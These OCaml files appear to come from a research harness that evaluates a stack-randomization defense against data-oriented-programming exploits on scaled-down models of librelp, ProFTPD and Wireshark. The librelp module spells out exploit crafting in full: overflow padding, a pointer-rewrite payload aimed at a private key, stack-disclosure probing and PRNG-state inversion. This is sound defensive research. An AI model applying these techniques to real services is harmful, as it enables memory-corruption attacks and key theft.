  sname : string;
  sdescription : string;
  sprogram : Ir.Prog.t Lazy.t;
  benign : Sutil.Simrng.t -> string list;
  sattacks : attack list;
}

let run_benign ?backend ?arm applied ~seed ~chunks =
  let outcome, stats = Runner.run_chunks ?backend ?arm applied ~seed ~chunks in
  {
    verdict = Attacks.Verdict.classify outcome ~goal_met:false;
    stats = Some stats;
    requests = List.length chunks;
  }

(* ------------------------------------------------------------------ *)
(* Benign request flows.  Sizes are chosen to stay inside each target's
   legitimate envelope: proftpd commands must keep [512 - n*8] positive
   in sreplace (n <= 63 bytes); wireshark's capture loop consumes one
   frame of at most 255 bytes; the synthetic servers read into 64-byte
   buffers; librelp SANs just need to stay short and end on a name the
   peer check accepts. *)

let proftpd_flow rng =
  let middle () =
    match Sutil.Simrng.int rng ~bound:5 with
    | 0 -> Printf.sprintf "CWD /srv/data/%02d" (Sutil.Simrng.int rng ~bound:100)
    | 1 -> Printf.sprintf "RETR file-%03d.dat" (Sutil.Simrng.int rng ~bound:1000)
    | 2 -> "LIST"
    | 3 -> "NOOP"
    | _ -> "PWD"
  in
  let n = 2 + Sutil.Simrng.int rng ~bound:5 in
  [ "USER alice"; "PASS hunter2" ]
  @ List.init n (fun _ -> middle ())
  @ [ "QUIT" ]

let wireshark_flow rng =
  let len = 16 + Sutil.Simrng.int rng ~bound:181 in
  [ String.init len (fun _ -> Char.chr (32 + Sutil.Simrng.int rng ~bound:95)) ]

let librelp_flow rng =
  let extra = Sutil.Simrng.int rng ~bound:3 in
  List.init extra (fun _ ->
      Printf.sprintf "host%02d.example.net" (Sutil.Simrng.int rng ~bound:100))
  @ Librelp.benign_chunks

let synth_flow rng =
  let n = 1 + Sutil.Simrng.int rng ~bound:8 in
  List.init n (fun _ ->
      Printf.sprintf "req-%04x" (Sutil.Simrng.int rng ~bound:65536))

(* ------------------------------------------------------------------ *)
(* The registry.  Attack names match the batch cross-validation harness
   (Harness.Crossval) so served verdicts can be compared case-for-case
   against batch verdicts. *)

let apps =
  [
    {
      sname = "proftpd";
      sdescription = "FTP session: login, a few transfers, quit";
      sprogram = Proftpd.program;
      benign = proftpd_flow;
      sattacks =
        [
          {
            aname = "proftpd/key-extraction";
            session = Proftpd.attack_key_extraction_session;
            batch = Proftpd.attack_key_extraction;
          };
          {
            aname = "proftpd/bot";
            session = Proftpd.attack_bot_session;
            batch = Proftpd.attack_bot;
          };
          {
            aname = "proftpd/mem-permissions";
            session = Proftpd.attack_memperm_session;
            batch = Proftpd.attack_memperm;
          };
        ];
    };
    {
      sname = "wireshark";
      sdescription = "capture session: one dissected frame";
      sprogram = Wireshark.program;
      benign = wireshark_flow;
      sattacks =
        [
          {
            aname = "wireshark/CVE-2014-2299";
            session = Wireshark.attack_session;
            batch = Wireshark.attack;
          };
        ];
    };
    {
      sname = "librelp";
      sdescription = "TLS peer check over a client certificate's SANs";
      sprogram = Librelp.program;
      benign = librelp_flow;
      sattacks =
        [
          {
            aname = "librelp/key-leak";
            session = Librelp.attack_static_session;
            batch = Librelp.attack_static;
          };
        ];
    };
  ]
  @ List.map
      (fun (v : Synth.variant) ->
        {
          sname = "synth-" ^ v.vname;
          sdescription = "synthetic request server (" ^ v.vname ^ ")";
          sprogram = v.program;
          benign = synth_flow;
          sattacks =
            [
              { aname = v.vname; session = v.attack_session; batch = v.attack };
            ];
        })
      Synth.variants

let find name = List.find_opt (fun a -> String.equal a.sname name) apps

let attacks =
  List.concat_map (fun app -> List.map (fun atk -> (app, atk)) app.sattacks) apps

let find_attack aname =
  List.find_opt (fun (_, atk) -> String.equal atk.aname aname) attacks
