(** SPEC CPU2006-like workloads and the I/O-bound applications
    (paper §V-A).

    Real SPEC inputs are neither runnable in this VM nor necessary: the
    performance-overhead {e shape} in Figure 3 is driven by each
    benchmark's call intensity, automatic-variable count, and frame
    size, and by the P-BOX footprint for Figure 4.  Each workload here
    is an executable MiniC kernel written to reproduce its namesake's
    published character — e.g. [gobmk]'s multi-KiB board frames,
    [perlbench]'s deep call chains and many distinct small functions,
    [libquantum]'s tight loops with almost no calls.

    [sched_bias_pct] models the register-pressure/scheduling effect the
    paper isolates with Oprofile (§V-A: speedups up to 2.6% where
    registers were underutilized, extra slowdown where they were not).
    An interpreter has no register allocator, so this second-order
    effect cannot emerge from execution; it is added — identically for
    every scheme — when the harness reports percentages, and it is the
    only non-measured component (documented in DESIGN.md). *)

type workload = {
  wname : string;
  kind : [ `Spec | `Io ];
  description : string;
  source : string;
  input : string;  (** bytes served to [read_input]/[input_byte] *)
  sched_bias_pct : float;
  program : Ir.Prog.t Lazy.t;
  dop_hints : (string * string) list;
      (** [(function, slot)] pairs the static analyzer is expected to
          classify overflow-capable — ground-truth annotations for the
          analysis experiment and its tests *)
}

val all : workload list
val spec : workload list
(** The twelve CPU2006-like kernels, in Figure 3 order. *)

val io : workload list
(** ProFTPD- and Wireshark-like request loops. *)

val find : string -> workload option
