let key_string = "K3Y:0123456789abcdef0123456789ab"

let source =
  {|
// Placement shim: keeps the private key's address free of zero bytes in
// its low three bytes, so the exploit's NUL-terminated write can forge
// a pointer to it (real exploits pick targets the same way).
const char ropad[769] = "r";
const char decoy_tag[40] = "relp-session-0";
const char private_key[33] = "K3Y:0123456789abcdef0123456789ab";

// gnutls_x509_crt_get_subject_alt_name stand-in: each call yields the
// next SAN of the attacker-supplied certificate, or <0 when exhausted.
long get_subject_alt_name(char *out) {
  long n = read_input(out, 2047);
  if (n <= 0) return 0 - 1;
  out[n] = 0;
  return 1;
}

void relpTcpChkOnePeerName(char *name, long *pbFound) {
  if (strlen(name) == 11) {
    if (memcmp(name, "relp.victim", 11) == 0) *pbFound = 1;
  }
}

// CVE-2018-1000140: snprintf returns the length it WOULD have written;
// once iAllNames crosses sizeof(allNames), the size argument goes
// negative and, consumed as size_t, unbounds the next write at an
// attacker-chosen offset.
// (allNames sits above szAltName in the frame, as in the shipped
// librelp binaries: the gap write lands directly in the caller.)
void relpTcpChkPeerName() {
  char allNames[4096];
  char szAltName[2048];
  long iAllNames = 0;
  long bFoundPositiveMatch = 0;
  long gnuRet = 0;
  int iAltName = 0;
  short sanKind = 0;
  while (bFoundPositiveMatch == 0) {
    gnuRet = get_subject_alt_name(szAltName);
    if (gnuRet < 0) break;
    sanKind = 2;
    iAllNames += snprintf_cat(allNames + iAllNames, 4096 - iAllNames, szAltName);
    relpTcpChkOnePeerName(szAltName, &bFoundPositiveMatch);
    iAltName += sanKind - 1;
  }
}

// Socket-initialization loop: the DOP gadget dispatcher.  Session
// bookkeeping dereferences and advances keyPtr — a LOAD gadget feeding
// the error log, the exploit's exfiltration channel.
void relpTcpLstnInit() {
  long sessCount = 0;
  long leakAcc = 0;
  char *keyPtr = (char*)decoy_tag;
  int lstnPort = 2514;
  short family = 2;
  char lstnAddr[24];
  strcpy(lstnAddr, "0.0.0.0");
  while (sessCount < 4) {
    relpTcpChkPeerName();
    leakAcc = *(long*)keyPtr;
    print_int(leakAcc);
    print_char(32);
    keyPtr = keyPtr + 8;
    sessCount += lstnPort / 2514;
    family = 2;
  }
}

int main() { relpTcpLstnInit(); return 0; }
|}

let program = lazy (Minic.Driver.compile source)

let u64_of_prefix s =
  let v = ref 0L in
  for i = 7 downto 0 do
    v := Int64.logor (Int64.shift_left !v 8) (Int64.of_int (Char.code s.[i]))
  done;
  !v

let key_leak_marker = Int64.to_string (u64_of_prefix key_string)
let benign_chunks = [ "mail.example.com"; "relp.victim" ]

let caller_slots =
  [
    ("sessCount", 8, 8); ("leakAcc", 8, 8); ("keyPtr", 8, 8); ("lstnPort", 4, 4);
    ("family", 2, 2); ("lstnAddr", 24, 1);
  ]

let callee_slots =
  [
    ("allNames", 4096, 1); ("szAltName", 2048, 1); ("iAllNames", 8, 8);
    ("bFoundPositiveMatch", 8, 8); ("gnuRet", 8, 8); ("iAltName", 4, 4);
    ("sanKind", 2, 2);
  ]

let all_names_size = 4096
let max_san = 2047

(* Certificate assembly: pad SANs walk iAllNames to the jump point, the
   jump SAN overshoots the buffer (its own write is still truncated —
   harmless), and the payload SAN lands unbounded at exactly
   [allNames + dist]. *)
let exploit_chunks ~dist ~payload =
  if dist <= all_names_size then
    invalid_arg "librelp exploit: target not beyond the buffer";
  if String.contains payload '\000' then
    invalid_arg "librelp exploit: payload would be cut by its own NUL";
  let jump_from = max 0 (dist - max_san) in
  if jump_from > all_names_size - 1 then
    invalid_arg "librelp exploit: target beyond single-jump reach";
  let jump_len = dist - jump_from in
  let rec pads acc cur =
    if cur >= jump_from then List.rev acc
    else
      let len = min 2000 (jump_from - cur) in
      pads (String.make len 'P' :: acc) (cur + len)
  in
  pads [] 0 @ [ String.make jump_len 'J'; payload ]

(* The payload: redirect keyPtr's low bytes at the private key.  The
   write is [bytes][NUL], so it covers the low |bytes|+1 bytes of the
   pointer; the remaining high bytes must already match (same segment). *)
let key_ptr_payload prog =
  let gaddrs = Attacks.Layout.global_addrs prog in
  let key = List.assoc "private_key" gaddrs in
  let decoy = List.assoc "decoy_tag" gaddrs in
  let byte a i = (a lsr (8 * i)) land 0xff in
  (* Writing w bytes + NUL rewrites pointer bytes 0..w: we need the
     key's low w bytes NUL-free, its byte w to BE zero (absorbing the
     terminator), and the decoy to already agree on every higher
     byte. *)
  let viable w =
    byte key w = 0
    && (let ok = ref true in
        for i = 0 to w - 1 do
          if byte key i = 0 then ok := false
        done;
        !ok)
    &&
    let ok = ref true in
    for i = w + 1 to 7 do
      if byte key i <> byte decoy i then ok := false
    done;
    !ok
  in
  let rec width w =
    if w > 7 then
      invalid_arg "librelp exploit: no NUL-compatible pointer rewrite"
    else if viable w then w
    else width (w + 1)
  in
  let w = width 1 in
  String.init w (fun i -> Char.chr (byte key i))

let judge_session ?backend ?arm applied ~seed ~chunks =
  let outcome, stats = Runner.run_chunks ?backend ?arm applied ~seed ~chunks in
  ( Attacks.Verdict.classify outcome
      ~goal_met:(Dopkit.goal_in_output key_leak_marker stats),
    Some stats,
    List.length chunks )

let judge applied ~seed ~chunks =
  let verdict, _, _ = judge_session applied ~seed ~chunks in
  verdict

let chain = [ "main"; "relpTcpLstnInit"; "relpTcpChkPeerName" ]

(* Distance from allNames to keyPtr by static binary analysis; against
   Smokestack only the slab positions are visible and the intra-slab
   offsets are guessed. *)
let static_distance (applied : Defenses.Defense.applied) ~seed =
  let rows = Attacks.Layout.chain applied.prog chain in
  match
    Attacks.Layout.distance rows
      ~from_:("relpTcpChkPeerName", "allNames")
      ~to_:("relpTcpLstnInit", "keyPtr")
  with
  | Some d -> d
  | None -> (
      let slab f =
        Attacks.Layout.distance rows ~from_:(f, "__ss_total")
          ~to_:("relpTcpChkPeerName", "__ss_total")
      in
      match slab "relpTcpLstnInit" with
      | None -> invalid_arg "librelp exploit: no frame information"
      | Some slab_gap ->
          let rng = Sutil.Simrng.create ~seed in
          let callee_guess =
            Dopkit.guessed_slab_offsets ~slots:callee_slots ~vars:[ "allNames" ]
              ~fid_slot:true ~seed:(Sutil.Simrng.next_u64 rng)
          in
          let caller_guess =
            Dopkit.guessed_slab_offsets ~slots:caller_slots ~vars:[ "keyPtr" ]
              ~fid_slot:true ~seed:(Sutil.Simrng.next_u64 rng)
          in
          (* distance = (caller slab + keyPtr) - (callee slab + allNames);
             slab_gap is callee-relative-to-caller, negative. *)
          List.assoc "keyPtr" caller_guess - slab_gap
          - List.assoc "allNames" callee_guess)

let attack_static_session ?backend ?arm applied ~seed =
  match
    let dist = static_distance applied ~seed in
    let payload = key_ptr_payload (applied : Defenses.Defense.applied).prog in
    exploit_chunks ~dist ~payload
  with
  | chunks -> judge_session ?backend ?arm applied ~seed ~chunks
  | exception Invalid_argument _ -> (Attacks.Verdict.No_effect, None, 0)

let attack_static applied ~seed =
  let verdict, _, _ = attack_static_session applied ~seed in
  verdict

(* Probe run: plant 'P'*100 then "PROBEVAL" (contiguous in allNames
   only), scan the live stack for the composite needle and for the
   decoy pointer value, and measure the true allNames -> keyPtr
   distance.  Exploit run: replay with the measured distance. *)
let attack_disclosure applied ~seed =
  let measured = ref None in
  let phase = ref 0 in
  let probe_input (st : Machine.Exec.state) _max =
    incr phase;
    match !phase with
    | 1 -> String.make 100 'P'
    | 2 -> "PROBEVAL"
    | _ ->
        (if Option.is_none !measured then
           let base, len = Attacks.Disclosure.live_stack st in
           let needle = String.make 8 'P' ^ "PROBEVAL" in
           match Attacks.Disclosure.find_bytes st ~base ~len needle with
           | [ hit ] -> (
               let all_names_addr = base + hit + 8 - 100 in
               let gaddrs = Attacks.Layout.global_addrs st.prog in
               let decoy = List.assoc "decoy_tag" gaddrs in
               match
                 Attacks.Disclosure.find_u64 st ~base ~len (Int64.of_int decoy)
               with
               | [ p ] -> measured := Some (base + p - all_names_addr)
               | _ -> ())
           | _ -> ());
        ""
  in
  let (_ : Machine.Exec.outcome * Machine.Exec.stats) =
    Runner.run_adaptive applied ~seed ~input:probe_input
  in
  match !measured with
  | None -> Attacks.Verdict.No_effect
  | Some dist -> (
      match
        exploit_chunks ~dist
          ~payload:(key_ptr_payload (applied : Defenses.Defense.applied).prog)
      with
      | chunks -> judge applied ~seed:(Int64.add seed 1L) ~chunks
      | exception Invalid_argument _ -> Attacks.Verdict.No_effect)

(* State-disclosure prediction (threat model §III-B: the attacker reads
   all writable memory — including a memory-based PRNG's state, which
   is why the paper rules the `pseudo` scheme out).

   Draw schedule at the moment the first SAN is requested:
     draw 1  relpTcpLstnInit prologue   (caller layout)
     draw 2  relpTcpChkPeerName prologue (callee layout)
     draw 3  get_subject_alt_name prologue
   The disclosed word is the state after draw 3; xorshift is a
   bijection, so two [unstep]s recover the states behind draws 1 and 2,
   and the public decode maps each to its frame's exact offsets. *)
let attack_pseudo_state (applied : Defenses.Defense.applied) ~seed =
  let exploit = ref [] in
  let caller_off = ref None in
  let gave_up = ref false in
  let delivered = ref false in
  (* attacker-side reconstruction of a dynamic binding from public
     knowledge: source slot list + the defense's design *)
  let dyn fname slots =
    let metas =
      Array.of_list
        (List.map (fun (_, size, align) -> (size, align)) slots @ [ (8, 8) ])
    in
    let n = Array.length metas in
    {
      Smokestack.Pbox.dyn_id = 0;
      dfunc = fname;
      metas;
      scratch_bytes = Sutil.Align.align_up (4 * n) ~alignment:16;
      dyn_max_total = max_int;
    }
  in
  let input (st : Machine.Exec.state) _max =
    (* once the payload is out, end the certificate: the callee must
       return for the dispatcher loop to fire the leak gadget *)
    (if !exploit = [] && (not !gave_up) && not !delivered then
       match
         let state_addr =
           Machine.Exec.global_addr st Smokestack.Abi.prng_state_global
         in
         let s_cur = Machine.Memory.load st.mem ~width:8 state_addr in
         (* the last draw before this read was get_subject_alt_name's
            prologue; the one before that, the callee's *)
         let s_callee = Rng.Pseudo.unstep s_cur in
         let prog = st.prog in
         (if Option.is_none !caller_off then
            (* first invocation: one more unstep reaches the caller's
               prologue draw, whose layout is fixed for the whole run *)
            let s_caller = Rng.Pseudo.unstep s_callee in
            caller_off :=
              Some
                (Smokestack.Runtime.dynamic_offsets_for_draw
                   (dyn "relpTcpLstnInit" caller_slots)
                   (Rng.Pseudo.output s_caller)).(2) (* keyPtr: index 2 *));
         let callee_off =
           (Smokestack.Runtime.dynamic_offsets_for_draw
              (dyn "relpTcpChkPeerName" callee_slots)
              (Rng.Pseudo.output s_callee)).(0) (* allNames: index 0 *)
         in
         let rows = Attacks.Layout.chain prog chain in
         let slab_gap =
           match
             Attacks.Layout.distance rows
               ~from_:("relpTcpChkPeerName", "__ss_total")
               ~to_:("relpTcpLstnInit", "__ss_total")
           with
           | Some g -> g
           | None -> invalid_arg "not a smokestack binary"
         in
         let dist = slab_gap + Option.get !caller_off - callee_off in
         exploit_chunks ~dist ~payload:(key_ptr_payload prog)
       with
       | chunks -> exploit := chunks
       | exception Invalid_argument _ ->
           (* this invocation's layout is out of single-jump reach (or
              this is not a pseudo build): end the certificate early and
              wait for the dispatcher to re-enter the callee with a
              fresh layout *)
           if Option.is_none !caller_off then gave_up := true);
    match !exploit with
    | chunk :: rest ->
        exploit := rest;
        if rest = [] then delivered := true;
        chunk
    | [] -> ""
  in
  let outcome, stats = Runner.run_adaptive applied ~seed ~input in
  Attacks.Verdict.classify outcome
    ~goal_met:(Dopkit.goal_in_output key_leak_marker stats)

(* Same-run probe-then-exploit: plant markers during the first callee
   invocation, measure the true allNames -> keyPtr distance by
   disclosure, then deliver the exploit in a LATER invocation of the
   same process.  Against per-invocation randomization the measured
   distance expires before it can be used; against periodic
   re-randomization (redraw_interval > 1) the window stays open — the
   E11 ablation.  Works against every static defense too. *)
let attack_probe_then_exploit (applied : Defenses.Defense.applied) ~seed =
  (* Probe invocation k: plant a unique marker ("PROBExyz" so stale
     markers from earlier probes cannot alias), measure the live
     distance; if it is beyond the gap jump's reach, give the window a
     chance to roll and probe again next invocation.  Exploit as soon
     as a reachable distance is measured. *)
  let probe_round = ref 0 in
  let step = ref `Plant_pad in
  let exploit = ref [] in
  let delivered = ref false in
  let marker k = Printf.sprintf "PROBE%03d" (k mod 1000) in
  let input (st : Machine.Exec.state) _max =
    if !delivered then ""
    else
      match !step with
      | `Plant_pad ->
          step := `Plant_marker;
          String.make 100 'P'
      | `Plant_marker ->
          step := `Measure;
          marker !probe_round
      | `Measure ->
          (let base, len = Attacks.Disclosure.live_stack st in
           let needle = String.make 8 'P' ^ marker !probe_round in
           let gaddrs = Attacks.Layout.global_addrs st.prog in
           let decoy = List.assoc "decoy_tag" gaddrs in
           match
             ( Attacks.Disclosure.find_bytes st ~base ~len needle,
               Attacks.Disclosure.find_u64 st ~base ~len (Int64.of_int decoy) )
           with
           | [ hit ], [ p ] -> (
               let dist = (base + p) - (base + hit + 8 - 100) in
               match
                 exploit_chunks ~dist ~payload:(key_ptr_payload st.prog)
               with
               | chunks ->
                   exploit := chunks;
                   step := `Exploit
               | exception Invalid_argument _ ->
                   incr probe_round;
                   step := `Plant_pad)
           | _ ->
               incr probe_round;
               step := `Plant_pad);
          (* end this invocation either way: the exploit (or the next
             probe) needs a fresh callee frame *)
          ""
      | `Exploit -> (
          match !exploit with
          | chunk :: rest ->
              exploit := rest;
              if rest = [] then delivered := true;
              chunk
          | [] -> "")
  in
  let outcome, stats = Runner.run_adaptive applied ~seed ~input in
  Attacks.Verdict.classify outcome
    ~goal_met:(Dopkit.goal_in_output key_leak_marker stats)
