(** Synthetic DOP penetration-test programs (paper §V-C, "Penetration
    testing with synthetic benchmarks").

    Six RIPE-style variants crossing the overflow {e technique}
    (direct, indirect) with the vulnerable buffer's {e location}
    (stack, data segment, heap).  Every variant guards a secret behind
    [if (auth == 0x1337)]; the attacker's goal is to make the program
    print ["GRANTED"] by corrupting stack-resident DOP gadget operands
    and the gadget dispatcher's loop counter — never control data.

    Each variant's [attack] performs {e one} exploit attempt against a
    defense-applied program: it derives the frame layout by static
    binary analysis when the binary reveals it, and falls back to an
    Algorithm-1 layout guess (selected by [seed]) when it does not —
    i.e. against Smokestack.  Brute force is [attack] in a loop over
    seeds. *)

type variant = {
  vname : string;  (** e.g. ["stack-direct"] *)
  technique : [ `Direct | `Indirect ];
  location : [ `Stack | `Data | `Heap ];
  source : string;  (** MiniC *)
  program : Ir.Prog.t Lazy.t;
  attack : Defenses.Defense.applied -> seed:int64 -> Attacks.Verdict.t;
  attack_session :
    ?backend:Machine.Backend.t ->
    ?arm:(Machine.Exec.state -> unit) ->
    Defenses.Defense.applied ->
    seed:int64 ->
    Attacks.Verdict.t * Machine.Exec.stats option * int;
      (** Server-runtime form of [attack]: identical craft and verdict,
          plus engine selection, fault arming, the run's stats and the
          number of request chunks delivered ([(_, None, 0)] when the
          craft was impossible). *)
}

val variants : variant list
(** All six, in (stack, data, heap) x (direct, indirect) order. *)

val find : string -> variant option
(** Looks up [variants] plus the hidden [stack-leaky] target — the
    stack-direct program with a disclosure preamble that prints every
    local's absolute address (one integer line each, frame declaration
    order) before its first read.  It is the ground-truth positive for
    the {!Analysis.Leakan} address-disclosure channel and the target of
    the leak-guided attack path; it stays out of [variants] because its
    output is layout-dependent and would break the deterministic
    pentest tables. *)

val granted : string
(** The success marker in program output. *)

val benign_output : string
(** What an unattacked run prints (["denied\n"]); used by tests. *)
