let run_adaptive ?backend ?arm ?fuel ?heap_size ?stack_size
    (applied : Defenses.Defense.applied) ~seed ~input =
  let backend =
    match backend with Some b -> b | None -> Machine.Backend.default ()
  in
  let entropy = Crypto.Entropy.create ~seed in
  let st = applied.fresh_state ?heap_size ?stack_size entropy in
  Option.iter (fun f -> f st) arm;
  Machine.Exec.set_input st input;
  backend.Machine.Backend.run ?fuel st

let run_chunks ?backend ?arm ?fuel ?heap_size ?stack_size applied ~seed ~chunks =
  let remaining = ref chunks in
  let input _st max =
    match !remaining with
    | [] -> ""
    | chunk :: rest ->
        remaining := rest;
        if String.length chunk > max then String.sub chunk 0 max else chunk
  in
  run_adaptive ?backend ?arm ?fuel ?heap_size ?stack_size applied ~seed ~input
