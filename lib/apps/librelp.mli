(** Mini-librelp: the paper's §II-C proof-of-concept target
    (CVE-2018-1000140, scaled down).

    The model keeps the exploit-relevant structure of the real library
    one-for-one:

    - [relpTcpChkPeerName] accumulates every subject-alt-name of an
      attacker-supplied X.509 certificate into a fixed buffer with
      [iAllNames += snprintf(allNames + iAllNames, sizeof(allNames) -
      iAllNames, ...)] — once [iAllNames] crosses the buffer size the
      size argument goes negative, is consumed as [size_t], and the
      write becomes unbounded {e at an attacker-chosen offset} (the
      non-linear gap that sails over canaries);
    - the caller [relpTcpLstnInit] holds the DOP material: a session
      loop (gadget dispatcher) whose body dereferences and advances a
      pointer ([keyPtr]) used for session bookkeeping — a LOAD/MOV
      gadget pair.

    The exploit jumps the overflow over the callee's remaining frame
    into the caller's [keyPtr], redirecting it at the service's TLS
    private key; the loop then obligingly streams the key into the
    error log (the leak channel).  Goal predicate: the key's bytes
    appear in the output.

    Three attacker strategies are provided, matching §II-C:
    {!attack_static} (binary analysis), {!attack_disclosure} (probe run
    + marker scan, then exploit run — defeats the per-build
    randomizations), and brute force = {!attack_static} over seeds. *)

val source : string
val program : Ir.Prog.t Lazy.t

val key_leak_marker : string
(** Decimal rendering of the private key's first 8 bytes — its
    appearance in the output means the key leaked. *)

val benign_chunks : string list
(** A legitimate certificate: SANs ending with the matching peer name.
    Used to validate functional behaviour under every defense. *)

val attack_static :
  Defenses.Defense.applied -> seed:int64 -> Attacks.Verdict.t
(** One attempt, offsets from binary analysis (falling back to an
    Algorithm-1 guess against Smokestack). *)

val attack_static_session :
  ?backend:Machine.Backend.t ->
  ?arm:(Machine.Exec.state -> unit) ->
  Defenses.Defense.applied ->
  seed:int64 ->
  Attacks.Verdict.t * Machine.Exec.stats option * int
(** Server-runtime form of {!attack_static}: identical craft and
    verdict, plus engine selection, fault arming, the run's stats and
    the number of certificate chunks delivered ([(_, None, 0)] when the
    craft was impossible). *)

val attack_disclosure :
  Defenses.Defense.applied -> seed:int64 -> Attacks.Verdict.t
(** Probe run: plant a recognizable SAN, scan the stack for it and for
    the caller's pointer value to measure the true callee-to-caller
    distance; exploit run: use the measured distance.  Works against
    any per-build layout (static permutation, padding); fails against
    per-invocation layouts. *)

val attack_probe_then_exploit :
  Defenses.Defense.applied -> seed:int64 -> Attacks.Verdict.t
(** Same-run probe-then-exploit: disclose the live layout during the
    first callee invocation, exploit during a later one {e in the same
    process}.  Beats every static defense and any periodic
    re-randomization whose window spans two invocations; only
    per-invocation randomization (the paper's design point) closes
    it. *)

val attack_pseudo_state :
  Defenses.Defense.applied -> seed:int64 -> Attacks.Verdict.t
(** The paper's argument for disclosure-resistant randomness, made
    executable: disclose the [pseudo] scheme's generator state word
    from VM data memory, run the (invertible) xorshift {e backwards} to
    recover the draws that laid out the already-live caller and callee
    frames, replicate the public layout decode, and deliver the exploit
    {e within the same invocation} — deterministic success against a
    Smokestack build using the [pseudo] scheme, and a guaranteed miss
    against AES/RDRAND builds whose generator state the VM cannot
    address. *)
