(** Running defense-applied programs under attacker-supplied input.

    Each run models one service process: fresh state, fresh per-run
    entropy (derived from [seed] so experiments are reproducible), and
    an input source that answers the program's [read_input]/[input_byte]
    calls.  Restart-after-crash is simply another [run_*] call with the
    next seed.

    [?backend] selects the execution engine ({!Machine.Backend});
    defaults to {!Machine.Backend.default}, which is the reference
    interpreter unless an experiment driver switched it.

    [?arm] sees the prepared state after the defense runtime is
    installed and before execution — the hook the server runtime and
    the chaos machinery use to arm {!Fault.Inject} plans on per-session
    states. *)

val run_chunks :
  ?backend:Machine.Backend.t ->
  ?arm:(Machine.Exec.state -> unit) ->
  ?fuel:int ->
  ?heap_size:int ->
  ?stack_size:int ->
  Defenses.Defense.applied ->
  seed:int64 ->
  chunks:string list ->
  Machine.Exec.outcome * Machine.Exec.stats
(** Each [read_input] call consumes the next chunk whole (truncated to
    the callee's limit); after the list is exhausted, reads return
    empty.  This models one network message per read, which is how the
    exploit payloads are framed. *)

val run_adaptive :
  ?backend:Machine.Backend.t ->
  ?arm:(Machine.Exec.state -> unit) ->
  ?fuel:int ->
  ?heap_size:int ->
  ?stack_size:int ->
  Defenses.Defense.applied ->
  seed:int64 ->
  input:(Machine.Exec.state -> int -> string) ->
  Machine.Exec.outcome * Machine.Exec.stats
(** Full control: the callback sees the live machine state (the
    disclosure-capable attacker of the threat model). *)
