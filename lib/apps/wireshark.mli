(** Mini-Wireshark: the CVE-2014-2299 DOP target (paper §V-C).

    Models the mpeg-frame path Hu et al. exploited: the dissection
    routine [packet_list_dissect_and_cache_record] memcpy's an
    attacker-specified number of bytes into the fixed buffer [pd],
    corrupting — in one linear overflow — its own locals [col], [cinfo]
    and [packet_list] (the DOP gadget operands consumed by
    [packet_list_change_record]) and, further up, the caller's
    [cell_list] loop condition (the gadget dispatcher), exactly the
    variable set named in the paper.

    The gadget computes [*col = *cinfo + packet_list]: one arbitrary
    add-and-store per malicious frame.  The attack aims it at the
    [w_auth] configuration word; goal predicate: ["GRANTED"] appears in
    the output.

    The paper reports Smokestack stopping this exploit by {e detecting}
    the corruption of the function identifier — the linear stomp across
    the permuted frame can hardly miss it; the numbers here reproduce
    that (mostly [Detected] verdicts). *)

val source : string
val program : Ir.Prog.t Lazy.t
val granted : string
val benign_chunks : string list

val attack : Defenses.Defense.applied -> seed:int64 -> Attacks.Verdict.t
(** One attempt: binary-analysis offsets, Algorithm-1 guess against
    Smokestack. *)

val attack_session :
  ?backend:Machine.Backend.t ->
  ?arm:(Machine.Exec.state -> unit) ->
  Defenses.Defense.applied ->
  seed:int64 ->
  Attacks.Verdict.t * Machine.Exec.stats option * int
(** Server-runtime form of {!attack}: identical craft and verdict, plus
    engine selection, fault arming, the run's stats, and the number of
    frames delivered ([(_, None, 0)] when the craft was impossible). *)
