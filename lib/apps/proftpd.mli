(** Mini-ProFTPD: the CVE-2006-5815 DOP target (paper §V-C).

    [sreplace] performs the classic bug: a length computation that goes
    negative is consumed by [sstrncpy] as [size_t], unbounding a copy
    into a 512-byte stack buffer.  Because the copy source is a
    C string, exploit payloads are NUL-free; the command loop's gadget
    operands are therefore single-byte ([op], [delta]) — one overflow
    per gadget invocation, with the trailing NUL landing on a sacrificial
    pad byte.

    The command loop is the gadget dispatcher (its [iter] guard uses
    [!=], so stomped counters keep it alive — the shape real dispatcher
    loops have).  Gadgets: LOAD ([acc = *cur]), MOV ([cur = acc]),
    PTR-ADD ([cur += delta]), ACC-ADD ([acc += delta]), SEND (emit
    [acc] on the control channel), SETMODE ([mode = delta]).

    Three end-to-end exploits mirror Hu et al.:

    - {!attack_key_extraction} — walk the 7-deep pointer chain hiding
      the TLS private key (never using any node address, which is what
      made the original attack an ASLR bypass) and stream the key out:
      ~26 chained gadget invocations.
    - {!attack_bot} — compute an attacker-chosen answer in [acc] and
      emit it: the remotely-controlled-bot simulation.
    - {!attack_memperm} — set the [mode] word that gates the
      memory-permission change path (the W^X-alteration analogue).

    Goal predicates: respective markers appear in the output. *)

val source : string
val program : Ir.Prog.t Lazy.t

val key_leak_marker : string
val bot_marker : string
(** Decimal of the attacker-chosen bot answer (0xB07B07). *)

val memperm_marker : string
val benign_chunks : string list

val attack_key_extraction :
  Defenses.Defense.applied -> seed:int64 -> Attacks.Verdict.t

val attack_bot : Defenses.Defense.applied -> seed:int64 -> Attacks.Verdict.t

val attack_memperm :
  Defenses.Defense.applied -> seed:int64 -> Attacks.Verdict.t

(** Session forms of the three exploits for the server runtime: same
    craft and judgement as the batch functions (identical verdict for
    identical [applied] and [seed]), but engine-selectable, able to arm
    a fault plan on the session state, and reporting the run's stats
    plus the number of request chunks delivered ([(_, None, 0)] when
    the layout guess was geometrically impossible and nothing ran). *)

val attack_key_extraction_session :
  ?backend:Machine.Backend.t ->
  ?arm:(Machine.Exec.state -> unit) ->
  Defenses.Defense.applied ->
  seed:int64 ->
  Attacks.Verdict.t * Machine.Exec.stats option * int

val attack_bot_session :
  ?backend:Machine.Backend.t ->
  ?arm:(Machine.Exec.state -> unit) ->
  Defenses.Defense.applied ->
  seed:int64 ->
  Attacks.Verdict.t * Machine.Exec.stats option * int

val attack_memperm_session :
  ?backend:Machine.Backend.t ->
  ?arm:(Machine.Exec.state -> unit) ->
  Defenses.Defense.applied ->
  seed:int64 ->
  Attacks.Verdict.t * Machine.Exec.stats option * int
