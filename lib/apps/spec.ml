type workload = {
  wname : string;
  kind : [ `Spec | `Io ];
  description : string;
  source : string;
  input : string;
  sched_bias_pct : float;
  program : Ir.Prog.t Lazy.t;
  dop_hints : (string * string) list;
}

(* Each kernel is calibrated to its namesake's call density — the ratio
   of baseline cycles to calls is what determines Figure 3's
   per-benchmark overhead, since Smokestack's cost is per invocation.
   gobmk is the most call-dense (the paper's 29% worst case), mcf /
